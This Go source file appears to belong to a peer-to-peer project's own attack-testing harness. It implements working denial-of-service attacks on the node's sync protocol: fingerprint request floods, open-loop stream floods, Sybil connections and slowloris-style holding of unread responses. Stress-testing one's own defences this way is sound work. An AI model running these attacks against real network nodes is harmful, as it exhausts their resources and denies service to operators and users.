package attack

import (
	"context"
	"crypto/rand"
	"encoding/binary"
	"encoding/hex"
	"io"
	"strings"
	"time"

	"github.com/libp2p/go-libp2p/core/network"
	msmux "github.com/multiformats/go-multistream"

	"github.com/wats-network/wats/core"
	"github.com/wats-network/wats/proto"
)

// The attacks on sync by id range and its fingerprints (ADR 0052; ADR
// 0055 says what meets each). A whole-space fingerprint is the costliest
// request a peer can send for one sync token: the responder counts
// proto.MaxFingerprintIDs ids of its index.
const (
	// FingerprintFlood: IDs ids each ask for the fingerprint of the whole
	// id space from fingerprintWorkers goroutines, each waiting for its
	// answer before it asks again (closed loop).
	FingerprintFlood = "fingerprint-flood"
	// FingerprintFloodOpen: IDs ids each ask for it as fast as they can
	// open streams, never waiting for an answer and never reading one
	// (open loop); an id keeps at most openStreams streams, resetting the
	// oldest, and dials again when the node closes its connection.
	FingerprintFloodOpen = "fingerprint-flood-open"
	// FingerprintSybil: Rate fresh ids a second each say hello, ask for
	// one whole-space fingerprint, and leave.
	FingerprintSybil = "fingerprint-sybil"
	// IDsPages: IDs ids each ask for pagesPerID pages by id range at once,
	// 256 events from a random point of the id space, and read no page:
	// an id reads the length prefix of each answer, resets a stream whose
	// answer is small (a refusal, "too busy") to ask again at once, and
	// holds one with a page unread until the node gives up on it, then
	// asks again.
	IDsPages = "ids-pages"
)

// Attacks on sync by id range: their own group of Attacks.
func init() {
	Attacks = append(Attacks, FingerprintFlood, FingerprintFloodOpen, FingerprintSybil, IDsPages)
}

const (
	// fingerprintWorkers is how many requests each id of FingerprintFlood
	// has in flight.
	fingerprintWorkers = 16
	// openStreams is how many unanswered streams an id of
	// FingerprintFloodOpen keeps before it resets the oldest.
	openStreams = 64
	// smallAnswer is the largest answer IDsPages takes for a refusal
	// rather than a page.
	smallAnswer = 1024
)

// zeroID is the first id of the id space.
var zeroID = strings.Repeat("0", proto.IDHexLen)

// WholeFingerprint is the request for the fingerprint of the whole id
// space: the responder counts proto.MaxFingerprintIDs ids when it holds
// as many.
func WholeFingerprint() *proto.SyncRequest {
	return &proto.SyncRequest{Limit: core.MaxPageEvents, IDs: &proto.IDRange{From: zeroID}, Fingerprint: true}
}

// randomIDPage is a request for the page of 256 events from a random
// point of the id space to its end.
func randomIDPage() *proto.SyncRequest {
	var b [32]byte
	_, _ = rand.Read(b[:])
	return &proto.SyncRequest{Limit: core.MaxPageEvents, IDs: &proto.IDRange{From: hex.EncodeToString(b[:])}}
}

// syncIDsAttack runs the attacks of this file; false for another name.
func syncIDsAttack(ctx context.Context, name string, t Target, o Options, st *stats) bool {
	switch name {
	case FingerprintFlood:
		holders(ctx, t, o.IDs, fingerprintWorkers, 100*time.Millisecond, st, func(c *Conn) { fingerprints(ctx, c, st) })
	case FingerprintFloodOpen:
		holders(ctx, t, o.IDs, 1, 100*time.Millisecond, st, func(c *Conn) { openFingerprints(ctx, c, st) })
	case FingerprintSybil:
		atRate(ctx, o.Rate, 8192, func() {
			withFresh(ctx, t, st, func(dctx context.Context, c *Conn) {
				if answered(st, c, dctx, c.Hello(false)) {
					answered(st, c, dctx, WholeFingerprint())
				}
			})
		})
	case IDsPages:
		holders(ctx, t, o.IDs, pagesPerID, 200*time.Millisecond, st, func(c *Conn) { holdIDPages(ctx, c, st) })
	default:
		return false
	}
	return true
}

// answered sends m on c, counting it, and reports whether the node
// served it (a hello or a sync answer, not a refusal or an error).
func answered(st *stats, c *Conn, ctx context.Context, m proto.Message) bool {
	st.requests.Add(1)
	resp, err := c.Request(ctx, m, nil)
	if err != nil || resp.Hello == nil && resp.Sync == nil {
		return false
	}
	st.answered.Add(1)
	return true
}

// fingerprints asks on c for whole-space fingerprints one after the
// other, each once the one before is answered (its first request a
// hello), until c closes or ctx ends.
func fingerprints(ctx context.Context, c *Conn, st *stats) {
	answered(st, c, ctx, c.Hello(false))
	for ctx.Err() == nil && !c.IsClosed() {
		answered(st, c, ctx, WholeFingerprint())
	}
}

// openFingerprints writes whole-space fingerprint requests on new streams
// of c as fast as it can, reading nothing, until c closes or ctx ends: at
// most openStreams are kept, the oldest reset to make room.
func openFingerprints(ctx context.Context, c *Conn, st *stats) {
	b, err := proto.Marshal(WholeFingerprint())
	if err != nil {
		return
	}
	var ring [openStreams]network.MuxedStream
	defer func() {
		for _, s := range ring {
			if s != nil {
				_ = s.Reset()
			}
		}
	}()
	for i := 0; ctx.Err() == nil && !c.IsClosed(); i++ {
		raw, err := c.OpenRaw(ctx)
		if err != nil {
			Pause(ctx, 10*time.Millisecond)
			continue
		}
		if old := ring[i%openStreams]; old != nil {
			_ = old.Reset()
		}
		ring[i%openStreams] = raw
		st.requests.Add(1)
		st.streams.Add(1)
		if err := proto.WriteFrame(msmux.NewMSSelect(raw, proto.ID), b); err != nil {
			st.reset.Add(1)
			continue
		}
		_ = raw.CloseWrite()
	}
}

// holdIDPages asks for pages by id range on c, one stream at a time: a
// small answer (a refusal) is dropped and the next asked for at once
// (after a pause of 10 ms); a page is held unread for
// proto.ResponseTimeout and a second, past the longest write deadline a
// node gives a response, then reset. It runs until c closes or ctx ends.
func holdIDPages(ctx context.Context, c *Conn, st *stats) {
	for ctx.Err() == nil && !c.IsClosed() {
		b, err := proto.Marshal(randomIDPage())
		if err != nil {
			return
		}
		raw, err := c.OpenRaw(ctx)
		if err != nil {
			Pause(ctx, 50*time.Millisecond)
			continue
		}
		_ = raw.SetDeadline(time.Now().Add(requestTimeout))
		st.requests.Add(1)
		n, err := answerLen(msmux.NewMSSelect(raw, proto.ID), b)
		switch {
		case err != nil:
			st.reset.Add(1)
			Pause(ctx, 50*time.Millisecond)
		case n <= smallAnswer:
			Pause(ctx, 10*time.Millisecond)
		default:
			st.answered.Add(1)
			st.streams.Add(1)
			Pause(ctx, proto.ResponseTimeout+time.Second) // reading nothing more: the node's write waits on the window
		}
		_ = raw.Reset()
	}
}

// answerLen writes request b on s and reads only the length prefix of the
// answer.
func answerLen(s io.ReadWriter, b []byte) (uint64, error) {
	if err := proto.WriteFrame(s, b); err != nil {
		return 0, err
	}
	return binary.ReadUvarint(byteReader{s})
}

// byteReader reads one byte at a time from r, for a varint read never
// past its last byte.
type byteReader struct{ r io.Reader }

func (b byteReader) ReadByte() (byte, error) {
	var one [1]byte
	_, err := io.ReadFull(b.r, one[:])
	return one[0], err
}
